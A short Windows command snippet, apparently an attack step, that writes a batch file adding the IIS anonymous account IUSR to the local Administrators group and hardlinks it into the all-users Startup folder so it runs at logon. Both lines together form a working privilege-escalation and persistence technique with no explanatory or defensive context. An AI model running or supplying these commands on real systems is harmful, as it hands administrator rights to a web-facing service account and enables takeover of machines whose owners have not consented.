echo net localgroup Administrators IUSR /add> C:\kit.cmd
fsutil hardlink create "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\kit.cmd" C:\kit.cmd
